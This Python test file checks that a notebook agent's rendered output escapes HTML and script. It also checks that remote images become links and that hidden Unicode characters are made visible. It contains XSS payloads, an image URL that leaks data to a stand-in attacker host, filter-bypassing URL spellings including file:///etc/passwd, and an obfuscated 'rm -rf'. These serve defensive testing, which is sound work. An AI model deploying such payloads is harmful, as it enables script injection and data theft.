"""Finding 1 and 12: what nbagent shows of the model's output cannot run script or fetch remote images."""

from __future__ import annotations

import html
import re

from ada_url import URL

from nbagent import events as ev
from nbagent.engine.result import RunResult
from nbagent.render.markdown import loads_on_its_own, markdown_to_html


def _result(text: str, tool_name: str, arguments: dict) -> RunResult:
    events = [ev.ToolCall(call_id="c1", name=tool_name, arguments=arguments, turn_id="t"),
              ev.ToolResult(call_id="c1", name=tool_name, status="done", output="ok", turn_id="t")]
    return RunResult.from_events(events, ev.TurnEnd(reason="done", text=text, turn_id="t"), "s")


def test_run_result_escapes_the_answer_tool_names_and_arguments():
    html = _result("<script>alert(1)</script> <img src=x onerror=alert(2)>",
                   "x`<img src=y onerror=alert(3)>`", {"p": "<b onmouseover=alert(4)>"})._repr_html_()
    assert "<script" not in html and "<img" not in html and "<b " not in html
    assert "&lt;script&gt;" in html and "&lt;img src=y onerror=alert(3)&gt;" in html
    assert not hasattr(RunResult, "_repr_markdown_")  # no Markdown left for a front end to render raw


def test_markdown_keeps_formatting_but_not_html_or_script_links():
    out = markdown_to_html("**bold** `a<b`\n\n<div onclick=x>hi</div>\n\n[click](javascript:alert(1))")
    assert "<strong>bold</strong>" in out and "<code>a&lt;b</code>" in out
    assert "<div" not in out and "javascript:" not in out


def test_remote_images_are_links_not_loaded_images():
    out = markdown_to_html("see ![chart](https://evil.example/leak?d=secret) and ![local](data:image/png;base64,AA==)")
    assert '<img src="https://' not in out and "nbagent-remote-image" in out
    assert 'href="https://evil.example/leak?d=secret"' in out
    assert '<img src="data:image/png;base64,AA=="' in out
    for url in ("//evil.example/x.png", "HTTP://evil.example/x.png"):
        assert "<img" not in markdown_to_html(f"![x]({url})")


# Finding 5 of "Trust": spellings a browser accepts for a remote URL, parsed as a browser parses them.
REMOTE_SPELLINGS = ["https:evil.example/x.png", "http:evil.example/x.png", "//evil.example/x.png",
                    "\\\\evil.example/x.png", "/\\evil.example/x.png", "\\/evil.example/x.png",
                    "https:\\\\evil.example/x.png", "ht\ttps://evil.example/x.png", "HtTpS://evil.example/x.png",
                    " https://evil.example/x.png", "ftp://evil.example/x.png", "https:x.png", "data:text/html,hi",
                    "file:///etc/passwd"]


def test_every_spelling_of_a_remote_image_is_a_link_not_an_img():
    for url in REMOTE_SPELLINGS:
        assert not loads_on_its_own(url), url
        out = markdown_to_html(f"![i](<{url}>)".replace("\\", "\\\\"))  # Markdown unescapes a backslash
        for src in re.findall(r'<img src="([^"]*)"', out):  # an <img> left must load from the page itself
            for page in ("http://jupyter.test/lab/tree/a.ipynb", "https://jupyter.test/lab/tree/a.ipynb"):
                assert URL(html.unescape(src), page).host == "jupyter.test", (url, src)
    assert "nbagent-remote-image" in markdown_to_html("![i](https:evil.example/x.png)")


def test_same_origin_relative_and_inline_data_images_still_load():
    for url in ("plot.png", "files/plot.png", "../up/plot.png", "/files/plot.png", "data:image/png;base64,AA=="):
        assert f'<img src="{url}"' in markdown_to_html(f"![i]({url})"), url


# Finding 12 of "Trust": hidden characters are shown, marked up, wherever the model's text is rendered.
def test_markdown_shows_bidi_zero_width_and_line_separators():
    out = markdown_to_html("run `rm\u202e -rf` now\u200b, then\u2028this\n\n```\nls\u202e\n```")
    for code in ("U+202E", "U+200B", "U+2028"):
        assert f"&lt;{code}&gt;</span>" in out
    assert "\u202e" not in out and "\u200b" not in out and "\u2028" not in out
